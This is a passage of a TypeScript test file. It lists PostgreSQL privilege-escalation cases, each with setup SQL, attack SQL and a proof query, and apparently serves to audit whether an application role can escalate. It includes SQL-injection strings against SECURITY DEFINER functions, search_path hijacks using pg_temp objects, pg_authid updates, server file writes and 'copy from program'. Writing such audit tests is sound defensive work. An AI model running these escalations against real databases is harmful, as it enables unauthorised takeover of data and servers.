import { type AttackCase, superuserProof } from "../attack-case.ts"

const exploit =
  "create or replace function pg_temp.evil() returns int language plpgsql as $$begin create table app.pwned(); return 1; end$$;"

/** Configurations in which the application can do more than read and write. */
export const paths: readonly AttackCase[] = [
  // Attributes
  { name: "superuser", setup: "alter role {app} superuser", attack: "create table app.pwned()" },
  { name: "createrole", setup: "alter role {app} createrole", attack: "create role {pwned}" },
  {
    name: "createrole to the owner itself",
    until: 15,
    setup: "alter role {app} createrole",
    attack: "grant {owner} to {app}; set role {owner}; create table app.pwned()",
  },
  { name: "createdb", apart: true, setup: "alter role {app} createdb", attack: "create database {pwned}" },

  // Ownership
  {
    name: "owns a table",
    setup: "alter table app.users owner to {app}",
    attack: "alter table app.users add column pwned int",
  },
  {
    name: "a group owns a table",
    setup: "alter table app.users owner to {rw}",
    attack: "alter table app.users add column pwned int",
  },
  {
    name: "a group that is not inherited owns a table",
    setup:
      "create role {group}; alter role {app} noinherit; grant {group} to {app}; grant usage on schema app to {group}; alter table app.users owner to {group}",
    attack: "set role {group}; alter table app.users add column pwned int",
  },
  {
    name: "owns the schema, with the tables of others",
    setup: "alter schema app owner to {app}",
    attack: "drop table app.users; create table app.pwned()",
  },
  {
    name: "owns an empty schema",
    setup: "create schema mine authorization {app}",
    attack: "create table mine.pwned()",
  },
  { name: "owns the database", setup: "alter database {db} owner to {app}", attack: "create schema pwned" },
  {
    name: "owns a sequence",
    setup: "create sequence app.s; alter sequence app.s owner to {app}",
    attack: "alter sequence app.s increment 7",
    proof: "select seqincrement = 7 from pg_sequence where seqrelid = 'app.s'::regclass",
  },
  {
    name: "owns a view",
    setup: "create view app.v as select 1 as a; alter view app.v owner to {app}",
    attack: "alter view app.v rename column a to pwned",
  },
  {
    name: "owns a materialized view",
    setup: "create materialized view app.v as select 1 as a; alter materialized view app.v owner to {app}",
    attack: "alter materialized view app.v rename column a to pwned",
  },
  {
    name: "owns an enum",
    setup: "create type app.state as enum ('a'); alter type app.state owner to {app}",
    attack: "alter type app.state add value 'pwned'",
  },
  {
    name: "owns a domain",
    setup: "create domain app.email as text; alter domain app.email owner to {app}",
    attack: "alter domain app.email add constraint c check (value <> '')",
    proof: "select exists (select from pg_constraint where conname = 'c')",
  },
  {
    name: "owns a function",
    setup:
      "create function app.f() returns int language sql as 'select 1'; alter function app.f() owner to {app}",
    attack: "alter function app.f() cost 7",
    proof: "select procost = 7 from pg_proc where proname = 'f'",
  },
  {
    name: "owns a procedure",
    setup: "create procedure app.p() language sql as 'select 1'; alter procedure app.p() owner to {app}",
    attack: "alter procedure app.p() security definer",
    proof: "select prosecdef from pg_proc where proname = 'p'",
  },
  {
    name: "owns an aggregate",
    setup:
      "create aggregate app.a(int) (sfunc = int4pl, stype = int); alter aggregate app.a(int) owner to {app}",
    attack: "drop aggregate app.a(int)",
    proof: "select not exists (select from pg_proc where proname = 'a')",
  },
  {
    name: "owns the function of an event trigger",
    setup: `create function app.f() returns event_trigger language plpgsql as 'begin end';
            create event trigger {group} on ddl_command_end execute function app.f();
            alter function app.f() owner to {app}; grant create on schema app to {app}`,
    attack: "alter function app.f() rename to pwned",
  },
  {
    name: "owns one partition",
    setup: `create table app.p(id int) partition by list (id); create table app.p1 partition of app.p for values in (1);
            alter table app.p1 owner to {app}`,
    attack: "alter table app.p1 alter column id set not null",
    proof: "select attnotnull from pg_attribute where attrelid = 'app.p1'::regclass and attname = 'id'",
  },
  {
    name: "owns an extension",
    setup:
      "create schema x; grant all on schema x to {app}; grant create on database {db} to {app}; set role {app}; create extension hstore schema x; reset role; revoke create on schema x from {app}; revoke create on database {db} from {app}",
    attack: "drop extension hstore",
    proof: "select not exists (select from pg_extension where extname = 'hstore')",
  },
  {
    name: "owns a publication",
    setup: "create publication p; alter publication p owner to {app}",
    attack: "drop publication p",
    proof: "select not exists (select from pg_publication)",
  },
  {
    name: "owns a text search configuration",
    setup:
      "create text search configuration app.c (copy = simple); alter text search configuration app.c owner to {app}",
    attack: "drop text search configuration app.c",
    proof: "select not exists (select from pg_ts_config where cfgname = 'c')",
  },
  {
    name: "owns a collation",
    setup: `create collation app.c from "C"; alter collation app.c owner to {app}`,
    attack: "drop collation app.c",
    proof: "select not exists (select from pg_collation where collname = 'c')",
  },
  {
    name: "owns an operator",
    setup:
      "create operator app.### (function = int4pl, leftarg = int, rightarg = int); alter operator app.### (int, int) owner to {app}",
    attack: "drop operator app.### (int, int)",
    proof: "select not exists (select from pg_operator where oprname = '###')",
  },
  {
    name: "owns extended statistics",
    setup: "create statistics app.st on id, name from app.users; alter statistics app.st owner to {app}",
    attack: "drop statistics app.st",
    proof: "select not exists (select from pg_statistic_ext where stxname = 'st')",
  },
  {
    name: "owns a foreign server",
    setup:
      "create extension postgres_fdw; create server s foreign data wrapper postgres_fdw; alter server s owner to {app}",
    attack: "drop server s",
    proof: "select not exists (select from pg_foreign_server)",
  },

  // CREATE
  {
    name: "create on a schema",
    setup: "grant create on schema app to {app}",
    attack: "create table app.pwned()",
  },
  {
    name: "create on public, for everybody",
    setup: "grant create, usage on schema public to public",
    attack: "create table public.pwned()",
  },
  {
    name: "create without usage",
    setup: "create schema hidden; grant create on schema hidden to {rw}",
    attack: "create table hidden.pwned()",
  },
  {
    name: "create on pg_catalog",
    setup: "grant create on schema pg_catalog to {app}",
    attack: "create function pg_catalog.pwned() returns int language sql as 'select 1'",
  },
  {
    name: "create on the database",
    setup: "grant create on database {db} to {app}",
    attack: "create schema pwned",
  },
  {
    name: "create on the database, for everybody",
    setup: "grant create on database {db} to public",
    attack: "create schema pwned",
  },
  {
    name: "a trusted extension, into a schema without any right",
    setup: "create schema hidden; grant create on database {db} to {rw}",
    attack: "create extension hstore schema hidden",
    proof: "select exists (select from pg_extension where extname = 'hstore')",
  },

  // Membership
  { name: "inherits the owner", setup: "grant {owner} to {app}", attack: "create table app.pwned()" },
  {
    name: "is a member of the owner and does not inherit",
    setup: "alter role {app} noinherit; grant {owner} to {app}",
    attack: "set role {owner}; create table app.pwned()",
  },
  {
    name: "reaches the owner over two groups",
    setup: "create role {group}; grant {group} to {app}; grant {owner} to {group}",
    attack: "create table app.pwned()",
  },
  {
    name: "is a member of the migrator",
    setup: "grant {migrator} to {app}",
    attack: "set role {migrator}; set role {owner}; create table app.pwned()",
  },
  {
    name: "through the shared group",
    setup: "grant {owner} to {rw}",
    attack: "create table app.pwned()",
  },
  {
    name: "is a member of a superuser",
    setup: "create role {group} superuser; grant {group} to {app}",
    attack: "set role {group}; create table app.pwned()",
  },
  {
    name: "is a member of a cloud's administrator",
    setup: "create role {group} createrole createdb; grant {group} to {app}",
    attack: "set role {group}; create role {pwned}",
  },
  {
    name: "has the admin option",
    setup: "grant {owner} to {app} with admin option",
    attack: "grant {owner} to {app}; set role {owner}; create table app.pwned()",
  },
  {
    name: "inherits only",
    since: 16,
    setup: "grant {owner} to {app} with inherit true, set false",
    attack: "create table app.pwned()",
  },
  {
    name: "may set only",
    since: 16,
    setup: "grant {owner} to {app} with inherit false, set true",
    attack: "set role {owner}; create table app.pwned()",
  },
  {
    name: "has the admin option only",
    since: 16,
    setup: "grant {owner} to {app} with admin true, inherit false, set false",
    attack: "grant {owner} to {app} with inherit true, set true; create table app.pwned()",
  },
  {
    name: "sets, then inherits",
    since: 16,
    setup:
      "create role {group}; grant {group} to {app} with inherit false, set true; grant {owner} to {group} with inherit true, set false",
    attack: "set role {group}; create table app.pwned()",
  },
  {
    name: "sets, then sets",
    since: 16,
    setup:
      "create role {group}; grant {group} to {app} with inherit false, set true; grant {owner} to {group} with inherit false, set true",
    attack: "set role {owner}; create table app.pwned()",
  },
  {
    name: "inherits an admin option",
    since: 16,
    setup:
      "create role {group}; grant {group} to {app} with inherit true, set false; grant {owner} to {group} with admin true, inherit false, set false",
    attack: "grant {owner} to {app} with inherit true, set true; create table app.pwned()",
  },
  {
    name: "sets, then has an admin option",
    since: 16,
    setup:
      "create role {group}; grant {group} to {app} with inherit false, set true; grant {owner} to {group} with admin true, inherit false, set false",
    attack:
      "set role {group}; grant {owner} to {app} with inherit true, set true; reset role; create table app.pwned()",
  },
  {
    name: "logs in as the owner by default",
    setup:
      "grant {owner} to {app}; alter role {app} noinherit; alter role {app} in database {db} set role = '{owner}'",
    attack: "set role {owner}; create table app.pwned()",
  },

  // Privileges
  {
    name: "trigger",
    setup: "grant trigger on app.users to {app}",
    attack:
      "create trigger pwned before update on app.users for each row execute function suppress_redundant_updates_trigger()",
  },
  {
    name: "trigger and temp: the application's code runs as the migrator",
    setup: "grant trigger on app.users to {rw}; grant temporary on database {db} to {app}",
    attack: `create function pg_temp.evil() returns trigger language plpgsql as 'begin create table app.pwned(); return new; end';
             grant execute on function pg_temp.evil() to public;
             create trigger t before insert on app.users for each row execute function pg_temp.evil()`,
    afterwards: "insert into app.users (name) values ('x')",
  },
  {
    name: "all to everybody",
    setup: "grant all on app.users to public",
    attack:
      "create trigger pwned before update on app.users for each row execute function suppress_redundant_updates_trigger()",
  },
  {
    name: "trigger on a view",
    setup: "create view app.v as select * from app.users; grant trigger on app.v to {app}",
    attack:
      "create trigger pwned instead of update on app.v for each row execute function suppress_redundant_updates_trigger()",
  },
  {
    name: "grant option",
    setup: "grant select on app.users to {app} with grant option",
    attack: "grant select on app.users to {other}",
    proof: "select has_table_privilege('{other}', 'app.users', 'select')",
  },
  {
    name: "grant option on a column",
    setup: "grant select (name) on app.users to {app} with grant option",
    attack: "grant select (name) on app.users to {other}",
    proof: "select has_column_privilege('{other}', 'app.users', 'name', 'select')",
  },
  {
    name: "grant option on a schema",
    setup: "grant usage on schema app to {app} with grant option",
    attack: "grant usage on schema app to {other}",
    proof: "select has_schema_privilege('{other}', 'app', 'usage')",
  },
  {
    name: "grant option on a function",
    setup:
      "create function app.f() returns int language sql as 'select 1'; revoke all on function app.f() from public; grant execute on function app.f() to {app} with grant option",
    attack: "grant execute on function app.f() to {other}",
    proof: "select has_function_privilege('{other}', 'app.f()', 'execute')",
  },
  {
    name: "grant option on the database",
    setup: "grant connect on database {db} to {app} with grant option",
    attack: "grant connect on database {db} to {other}",
    proof: "select has_database_privilege('{other}', current_database(), 'connect')",
  },
  {
    name: "grant option of the group",
    setup: "grant update on app.users to {rw} with grant option",
    attack: "grant update on app.users to {other}",
    proof: "select has_table_privilege('{other}', 'app.users', 'update')",
  },
  {
    name: "maintain",
    since: 17,
    setup: "grant maintain on app.users to {app}; create index users_name on app.users (name)",
    attack: "cluster app.users using users_name",
    proof: "select indisclustered from pg_index where indexrelid = 'app.users_name'::regclass",
  },

  // Catalogs
  {
    name: "a superuser's view over pg_authid",
    setup: "create view app.logins as select * from pg_authid; grant select, update on app.logins to {app}",
    attack: "update app.logins set rolsuper = true where rolname = '{app}'",
    proof: superuserProof,
  },
  {
    name: "a superuser's view over a view over pg_authid",
    setup: `create view app.logins as select * from pg_authid; create view app.users2 as select rolname, rolsuper from app.logins;
            grant update (rolsuper), select on app.users2 to {rw}`,
    attack: "update app.users2 set rolsuper = true where rolname = '{app}'",
    proof: superuserProof,
  },
  {
    name: "a column of pg_authid",
    setup: "grant update (rolsuper), select (rolname) on pg_authid to {app}",
    attack: "update pg_authid set rolsuper = true where rolname = '{app}'",
    proof: superuserProof,
  },
  {
    name: "a superuser's rule",
    setup: `create table app.inbox (name text);
            create rule r as on insert to app.inbox do also update pg_authid set rolsuper = true where rolname = new.name;
            grant insert on app.inbox to {rw}`,
    attack: "insert into app.inbox values ('{app}')",
    proof: superuserProof,
  },
  {
    name: "update on pg_group",
    setup: "grant select, update on pg_group to {app}; create role {group}",
    attack: "update pg_group set groname = '{pwned}' where groname = '{group}'",
  },

  // SECURITY DEFINER
  {
    name: "dynamic argument",
    setup: `create function app.run(sql text) returns void language plpgsql security definer set search_path = pg_catalog, pg_temp as 'begin execute sql; end';
            alter function app.run(text) owner to {owner}`,
    attack: "select app.run('create table app.pwned()')",
  },
  {
    name: "a superuser's function, with the default EXECUTE of PUBLIC",
    setup:
      "create function app.run(sql text) returns void language plpgsql security definer as 'begin execute sql; end'",
    attack: "select app.run('alter role {app} superuser')",
    proof: superuserProof,
  },
  {
    name: "a procedure",
    setup:
      "create procedure app.run(sql text) language plpgsql security definer as 'begin execute sql; end'; alter procedure app.run owner to {owner}",
    attack: "call app.run('create table app.pwned()')",
  },
  {
    name: "the function's owner inherits the owner",
    setup: `create role {group}; grant {owner} to {group}; create function app.run(sql text) returns void language plpgsql security definer as 'begin execute sql; end';
            alter function app.run(text) owner to {group}`,
    attack: "select app.run('create table app.pwned()')",
  },
  {
    name: "%s injection",
    setup: `create function app.find(t text) returns void language plpgsql security definer set search_path = app, pg_temp as
            $f$ begin execute format('delete from app.%s', t); end $f$;
            alter function app.find(text) owner to {owner}`,
    attack: "select app.find('users; create table app.pwned()')",
  },
  {
    name: "concatenation through a variable",
    setup: `create function app.find(t text) returns void language plpgsql security definer set search_path = app, pg_temp as
            $f$ declare q text; begin q := 'delete from app.users'; if t <> '' then q := q || ' where name = ''' || t || ''''; end if; execute q; end $f$;
            alter function app.find(text) owner to {owner}`,
    attack: "select app.find('x''; create table app.pwned(); --')",
  },
  {
    name: "a helper without rights of its own, called by a definer",
    setup: `create function app.exec(q text) returns void language plpgsql as 'begin execute q; end';
            revoke all on function app.exec(text) from public;
            create function app.clean(t text) returns void language plpgsql security definer set search_path = app, pg_temp as $f$ begin perform app.exec(t); end $f$;
            alter function app.clean(text) owner to {owner}; alter function app.exec(text) owner to {owner}`,
    attack: "select app.clean('create table app.pwned()')",
  },
  {
    name: "a definer in SQL that calls a definer",
    setup: `create function app.exec(q text) returns int language plpgsql security definer as 'begin execute q; return 1; end';
            revoke all on function app.exec(text) from public; alter function app.exec(text) owner to {owner};
            create function app.clean(t text) returns int language sql security definer set search_path = app, pg_temp as $f$ select app.exec($1) $f$;
            alter function app.clean(text) owner to {owner}`,
    attack: "select app.clean('create table app.pwned()')",
  },
  {
    name: "a trigger with dynamic SQL",
    setup: `create function app.log() returns trigger language plpgsql security definer set search_path = app, pg_temp as
            $f$ begin execute 'insert into app.audit_log (note) values (''' || new.name || ''')'; return new; end $f$;
            alter function app.log() owner to {owner}; revoke all on function app.log() from public;
            create trigger t before insert on app.users for each row execute function app.log()`,
    attack: "insert into app.users (name) values ('x''); create table app.pwned(); --')",
  },
  {
    name: "a trigger behind a cascade",
    setup: `create table app.orders (user_id int references app.users on delete cascade, note text);
            create function app.gone() returns trigger language plpgsql security definer as
            $f$ begin execute 'insert into app.audit_log (note) values (''' || old.note || ''')'; return old; end $f$;
            alter table app.orders owner to {owner}; alter function app.gone() owner to {owner}; revoke all on function app.gone() from public;
            create trigger t before delete on app.orders for each row execute function app.gone();
            insert into app.users (id, name) values (7, 'x');
            insert into app.orders values (7, 'x''); create table app.pwned(); --')`,
    attack: "delete from app.users where id = 7",
  },
  {
    name: "a trigger behind a definer that is safe itself",
    setup: `create function app.log() returns trigger language plpgsql as
            $f$ begin execute 'select ''' || new.note || ''''; return new; end $f$;
            create trigger t before insert on app.audit_log for each row execute function app.log();
            revoke all on app.audit_log from {rw};
            create function app.note(t text) returns void language sql security definer set search_path = app, pg_temp as $f$ insert into app.audit_log (note) values (t) $f$;
            alter function app.note(text) owner to {owner}`,
    attack: "select app.note('x''; create table app.pwned(); --')",
  },
  {
    name: "the state function of an aggregate",
    setup: `create function app.step(s text, q text) returns text language plpgsql security definer as 'begin execute q; return q; end';
            alter function app.step(text, text) owner to {owner}; revoke all on function app.step(text, text) from public;
            create aggregate app.collect(text) (sfunc = app.step, stype = text); alter aggregate app.collect(text) owner to {owner}`,
    attack: "select app.collect('create table app.pwned()')",
  },
  {
    name: "bounded DDL",
    setup: `create function app.make_partition(n int) returns void language plpgsql security definer set search_path = app, pg_temp as
            $f$ begin execute format('create table app.%I ()', 'part_' || n); end $f$;
            alter function app.make_partition(int) owner to {owner}`,
    attack: "select app.make_partition(1)",
    proof: "select to_regclass('app.part_1') is not null",
  },
  {
    name: "DDL that is written out",
    setup: `create function app.reset() returns void language plpgsql security definer set search_path = app, pg_temp as
            $f$ begin drop table if exists app.audit_log; end $f$; alter function app.reset() owner to {owner}`,
    attack: "select app.reset()",
    proof: "select to_regclass('app.audit_log') is null",
  },
  {
    name: "a superuser's function that updates a table by name",
    setup: `create function app.touch(t text, c text, v text) returns void language plpgsql security definer set search_path = app, pg_temp as
            $f$ begin execute format('update %I set %I = %L', t, c, v); end $f$`,
    attack: "select app.touch('pg_authid', 'rolsuper', 'true')",
    proof: superuserProof,
  },
  {
    name: "query_to_xml",
    setup: `grant temporary on database {db} to {app};
            create function app.export(q text) returns xml language sql security definer set search_path = pg_catalog, pg_temp as $f$ select query_to_xml(q, true, true, '') $f$;
            alter function app.export(text) owner to {owner}`,
    attack: `${exploit} select app.export('select pg_temp.evil()')`,
  },
  {
    name: "unpinned path",
    setup: `grant temporary on database {db} to {app};
            create function app.last_user() returns bigint language plpgsql security definer as 'begin return (select max(id) from users); end';
            alter function app.last_user() owner to {owner}`,
    attack: `${exploit} create temp view users as select pg_temp.evil() as id; grant select on users to public; select app.last_user()`,
  },
  {
    name: "unpinned path: a write",
    setup: `grant temporary on database {db} to {app};
            create function app.note(t text) returns void language plpgsql security definer as 'begin insert into audit_log (note) values (t); end';
            alter function app.note(text) owner to {owner}`,
    attack: `create function pg_temp.evil() returns trigger language plpgsql as 'begin create table app.pwned(); return new; end';
             create temp table audit_log (id int, note text); create trigger t before insert on audit_log for each row execute function pg_temp.evil();
             grant all on audit_log to public; select app.note('x')`,
  },
  {
    name: "path pinned without pg_temp",
    setup: `grant temporary on database {db} to {app};
            create function app.note(t text) returns void language plpgsql security definer set search_path = app as 'begin insert into audit_log (note) values (t); end';
            alter function app.note(text) owner to {owner}`,
    attack: `create function pg_temp.evil() returns trigger language plpgsql as 'begin create table app.pwned(); return new; end';
             create temp table audit_log (id int, note text); create trigger t before insert on audit_log for each row execute function pg_temp.evil();
             grant all on audit_log to public; select app.note('x')`,
  },
  {
    name: "body as a string of SQL",
    setup: `grant temporary on database {db} to {app};
            set search_path = app; create function app.note(t text) returns void language sql security definer as 'insert into audit_log (note) values (t)'; reset search_path;
            alter function app.note(text) owner to {owner}`,
    attack: `create function pg_temp.evil() returns trigger language plpgsql as 'begin create table app.pwned(); return new; end';
             create temp table audit_log (id int, note text); create trigger t before insert on audit_log for each row execute function pg_temp.evil();
             grant all on audit_log to public; select app.note('x')`,
  },
  {
    name: "an unpinned trigger",
    setup: `grant temporary on database {db} to {app};
            create function app.log() returns trigger language plpgsql security definer as 'begin insert into audit_log (note) values (new.name); return new; end';
            alter function app.log() owner to {owner}; revoke all on function app.log() from public;
            create trigger t before insert on app.users for each row execute function app.log()`,
    attack: `create function pg_temp.evil() returns trigger language plpgsql as 'begin create table app.pwned(); return new; end';
             create temp table audit_log (id int, note text); create trigger t before insert on audit_log for each row execute function pg_temp.evil();
             grant all on audit_log to public; insert into app.users (name) values ('x')`,
  },
  {
    name: "an unpinned event trigger",
    // Before 15 the plan of an earlier call is kept, and with it the table that was meant.
    since: 15,
    setup: `grant temporary on database {db} to {app};
            create function app.log() returns event_trigger language plpgsql security definer as 'begin insert into audit_log (note) values (tg_tag); end';
            alter function app.log() owner to {owner};
            create event trigger {group} on ddl_command_end execute function app.log()`,
    attack: `set search_path = app; create function pg_temp.evil() returns trigger language plpgsql as 'begin if to_regclass(''app.pwned'') is null then create table app.pwned(); end if; return null; end';
             create temp table waiting (id int, note text); grant all on waiting to public;
             create trigger t before insert on waiting for each row execute function pg_temp.evil(); set search_path = app, public; alter table waiting rename to audit_log`,
  },
  {
    name: "an empty path, and a type of the caller's",
    setup: `grant temporary on database {db} to {app};
            create function app.tidy(t varchar) returns void language plpgsql security definer set search_path = '' as $f$ declare v text := t; begin insert into app.audit_log (note) values (v); end $f$;
            alter function app.tidy(varchar) owner to {owner}`,
    attack: `create function pg_temp.evil(v varchar) returns boolean language plpgsql as 'begin if to_regclass(''app.pwned'') is null then create table app.pwned(); end if; return true; end';
             create domain pg_temp.text as varchar check (pg_temp.evil(value)); grant usage on type pg_temp.text to public; select app.tidy('x')`,
  },
  {
    name: "a name that the caller chooses, with a temporary view",
    setup: `grant temporary on database {db} to {app};
            create function app.count_of(t text) returns bigint language plpgsql security definer set search_path = app, pg_temp as
            $f$ declare n bigint; begin execute format('select count(*) from %I where a > 0', t) into n; return n; end $f$;
            alter function app.count_of(text) owner to {owner}`,
    attack: `create function pg_temp.evil() returns int language plpgsql as 'begin create table app.pwned(); return 1; end';
             create temp view v as select pg_temp.evil() as a; grant select on v to public; select app.count_of('v')`,
  },
  {
    name: "a trigger function that the caller puts on a table of its own",
    setup: `grant temporary on database {db} to {app};
            create function app.log() returns trigger language plpgsql security definer set search_path = app, pg_temp as
            $f$ begin execute 'insert into app.audit_log (note) values (''' || tg_table_name || ''')'; return new; end $f$;
            alter function app.log() owner to {owner}`,
    attack: `create temp table "x'); create table app.pwned(); --" (a int); create trigger t before insert on "x'); create table app.pwned(); --" for each row execute function app.log();
             insert into "x'); create table app.pwned(); --" values (1)`,
  },
  {
    name: "a second-hand statement from a table",
    setup: `create table app.jobs (command text); alter table app.jobs owner to {owner}; grant select, insert on app.jobs to {rw};
            create function app.work() returns void language plpgsql security definer set search_path = app, pg_temp as
            $f$ declare j record; begin for j in select command from app.jobs loop execute j.command; end loop; end $f$;
            alter function app.work() owner to {owner}`,
    attack: "insert into app.jobs values ('create table app.pwned()'); select app.work()",
  },
  {
    name: "an operator that leads into a schema without a right",
    setup:
      `create schema hidden; create function hidden.run(a text, b text) returns text language plpgsql security definer as 'begin execute a; return b; end';
            alter function hidden.run(text, text) owner to {owner};
            create operator app.=> (function = hidden.run, leftarg = text, rightarg = text)`.replace(
        "=>",
        "%%%",
      ),
    attack: "select 'create table app.pwned()'::text operator(app.%%%) 'x'::text",
  },

  // Predefined roles and the server
  {
    name: "pg_execute_server_program",
    setup:
      "grant pg_execute_server_program to {app}; create table app.inbox (line text); grant insert, select on app.inbox to {app}",
    attack: "copy app.inbox from program 'echo pwned'",
    proof: "select exists (select from app.inbox where line = 'pwned')",
  },
  {
    name: "pg_write_server_files",
    setup: "grant pg_write_server_files to {app}",
    attack: "copy (select 'pwned') to '{file}'",
    proof: "select pg_read_file('{file}') like 'pwned%'",
  },
  {
    name: "pg_write_server_files, not inherited",
    setup: "alter role {app} noinherit; grant pg_write_server_files to {app}",
    attack: "set role pg_write_server_files; copy (select 'pwned') to '{file}'",
    proof: "select pg_read_file('{file}') like 'pwned%'",
  },
  {
    name: "pg_maintain",
    since: 17,
    setup: "grant pg_maintain to {app}; create index users_name on app.users (name)",
    attack: "cluster app.users using users_name",
    proof: "select indisclustered from pg_index where indexrelid = 'app.users_name'::regclass",
  },
  {
    name: "pg_create_subscription and CREATE",
    since: 16,
    setup: "grant pg_create_subscription to {app}; grant create on database {db} to {app}",
    attack: "create subscription pwned connection 'dbname=x password=y' publication p with (connect = false)",
  },
  {
    name: "lo_export",
    setup: "grant execute on function lo_export(oid, text) to {app}",
    attack: "select lo_from_bytea(4711, 'pwned'); select lo_export(4711, '{file}')",
    proof: "select pg_read_file('{file}') like 'pwned%'",
  },
  {
    name: "lo_export by another name",
    setup:
      "create function app.save(oid, text) returns int language internal as 'be_lo_export'; revoke all on function app.save(oid, text) from public; grant execute on function app.save(oid, text) to {rw}",
    attack: "select lo_from_bytea(4711, 'pwned'); select app.save(4711, '{file}')",
    proof: "select pg_read_file('{file}') like 'pwned%'",
  },
  {
    name: "a language that was marked as trusted",
    setup:
      "update pg_language set lanpltrusted = true where lanname = 'internal'; grant temporary on database {db} to {app}",
    attack:
      "create function pg_temp.save(oid, text) returns int language internal as 'be_lo_export'; select lo_from_bytea(4711, 'pwned'); select pg_temp.save(4711, '{file}')",
    proof: "select pg_read_file('{file}') like 'pwned%'",
  },
  {
    name: "alter system",
    apart: true,
    since: 15,
    setup: "grant alter system on parameter log_min_duration_statement to {app}",
    attack: "alter system set log_min_duration_statement = '987654'",
    proof: "select exists (select from pg_file_settings where setting = '987654')",
  },
  {
    name: "usage on a foreign-data wrapper",
    setup: "create extension postgres_fdw; grant usage on foreign data wrapper postgres_fdw to {app}",
    attack: "create server pwned foreign data wrapper postgres_fdw",
  },
  {
    name: "usage on a foreign server",
    setup:
      "create extension postgres_fdw; create server s foreign data wrapper postgres_fdw; grant usage on foreign server s to {app}",
    attack: "create user mapping for {app} server s",
    proof: "select exists (select from pg_user_mappings where usename = '{app}')",
  },
  {
    name: "dblink with the migrator's stored password",
    apart: true,
    setup: `create extension dblink schema app; create server loop foreign data wrapper dblink_fdw options (host '127.0.0.1', port '{port}', dbname '{db}');
            create user mapping for {app} server loop options (user '{owner}', password 'secret'); alter role {owner} login password 'secret';
            grant connect on database {db} to {owner}; grant usage on foreign server loop to {app}`,
    attack: "select app.dblink_exec('loop', 'create table app.pwned()')",
  },
  {
    name: "dblink_connect_u",
    apart: true,
    setup:
      "create extension dblink schema app; grant execute on function app.dblink_connect_u(text) to {app}",
    attack:
      "select app.dblink_connect_u('host={socket} port={port} dbname={db} user={superuser}'); select app.dblink_exec('create table app.pwned()')",
  },

  // What the next object brings
  {
    name: "default privileges: all on tables",
    setup: "alter default privileges for role {owner} in schema app grant all on tables to {rw}",
    attack: "select 1",
    afterwards: "create table app.next (); grant usage on schema app to {rw}",
    proof: "select has_table_privilege('{app}', 'app.next', 'trigger')",
  },
  {
    name: "default privileges: create on schemas",
    setup:
      "alter default privileges for role {owner} grant create on schemas to {rw}; grant create on database {db} to {owner}",
    attack: "select 1",
    afterwards: "create schema next",
    proof: "select has_schema_privilege('{app}', 'next', 'create')",
  },
  {
    name: "default privileges: all to everybody",
    setup: "alter default privileges for role {owner} grant all on tables to public",
    attack: "select 1",
    afterwards: "create table app.next ()",
    proof: "select has_table_privilege('{app}', 'app.next', 'trigger')",
  },
  {
    name: "default privileges: grant option",
    setup: "alter default privileges for role {owner} grant select on tables to {rw} with grant option",
    attack: "select 1",
    afterwards: "create table app.next ()",
    proof: "select has_table_privilege('{app}', 'app.next', 'select with grant option')",
  },

  // Roles that own, and grants of others
  {
    name: "inherits from a superuser that owns a table",
    since: 16,
    setup:
      "create role {group} superuser; grant {group} to {app} with inherit true, set false; alter table app.users owner to {group}; grant usage on schema app to {group}",
    attack: "alter table app.users add column pwned int",
  },
  {
    name: "inherits from the server's first superuser",
    since: 16,
    setup: "grant {superuser} to {app} with inherit true, set false",
    attack: "alter function pg_catalog.now() cost 7",
    proof: "select procost = 7 from pg_proc where oid = 'pg_catalog.now()'::regprocedure",
  },
  {
    name: "a group owns the database",
    setup: "create role {group}; grant {group} to {app}; alter database {db} owner to {group}",
    attack: "create schema pwned; set role {group}; create schema pwned",
  },
  {
    name: "create handed on by another role",
    setup:
      "grant create on schema app to {other} with grant option; set session authorization {other}; grant create on schema app to {app}; reset session authorization",
    attack: "create table app.pwned()",
  },
  {
    name: "execute for a group that the role can become",
    since: 16,
    setup: `create role {group}; grant {group} to {app} with inherit false, set true; create function app.run(q text) returns void language plpgsql security definer as 'begin execute q; end';
            grant usage on schema app to {group}; revoke all on function app.run(text) from public; grant execute on function app.run(text) to {group}; alter function app.run(text) owner to {owner}`,
    attack: "set role {group}; select app.run('create table app.pwned()')",
  },
  {
    name: "an instead-of trigger with dynamic SQL",
    setup: `create view app.v as select * from app.users; grant select, update on app.v to {rw};
            create function app.put() returns trigger language plpgsql security definer as $f$ begin execute 'update app.users set name = ''' || new.name || ''''; return new; end $f$;
            alter function app.put() owner to {owner}; revoke all on function app.put() from public; create trigger t instead of update on app.v for each row execute function app.put();
            insert into app.users (name) values ('x')`,
    attack: "update app.v set name = 'x''; create table app.pwned(); --'",
  },
  {
    name: "a trigger on a partition, behind its parent",
    setup: `create table app.p (id int, name text) partition by list (id); create table app.p1 partition of app.p for values in (1); grant insert on app.p to {rw};
            create function app.log() returns trigger language plpgsql security definer as $f$ begin execute new.name; return new; end $f$; alter function app.log() owner to {owner};
            revoke all on function app.log() from public; create trigger t before insert on app.p1 for each row execute function app.log()`,
    attack: "insert into app.p values (1, 'create table app.pwned()')",
  },
  {
    name: "a trigger behind a view of its table",
    setup: `create view app.v as select * from app.audit_log; alter view app.v owner to {owner}; revoke all on app.audit_log from {rw}; grant insert on app.v to {rw};
            create function app.log() returns trigger language plpgsql security definer as $f$ begin execute new.note; return new; end $f$; alter function app.log() owner to {owner};
            revoke all on function app.log() from public; create trigger t before insert on app.audit_log for each row execute function app.log()`,
    attack: "insert into app.v (note) values ('create table app.pwned()')",
  },
  {
    name: "a loop over an array of the caller's",
    setup: `create function app.list(cols text[]) returns void language plpgsql security definer set search_path = app, pg_temp as
            $f$ declare c text; q text := 'select 1'; begin foreach c in array cols loop q := q || ', ' || c; end loop; execute q; end $f$; alter function app.list(text[]) owner to {owner}`,
    attack: "select app.list(array['1; create table app.pwned()'])",
  },
  {
    name: "a setting of the session",
    setup: `create function app.tenant() returns void language plpgsql security definer set search_path = app, pg_temp as
            $f$ begin execute 'select * from app.users where name = ''' || current_setting('my.tenant') || ''''; end $f$; alter function app.tenant() owner to {owner}`,
    attack: "set my.tenant = 'x''; create table app.pwned(); --'; select app.tenant()",
  },
  {
    name: "a check that is too loose",
    setup: `create function app.list(c text) returns void language plpgsql security definer set search_path = app, pg_temp as
            $f$ begin if c !~ '[a-z_]+' then raise exception 'no column %', c; end if; execute 'select id from app.users order by ' || c; end $f$; alter function app.list(text) owner to {owner}`,
    attack: "select app.list('id; create table app.pwned()')",
  },
  {
    name: "pg_temp named first",
    setup: `grant temporary on database {db} to {app};
            create function app.note(t text) returns void language plpgsql security definer set search_path = pg_temp, app as 'begin insert into audit_log (note) values (t); end';
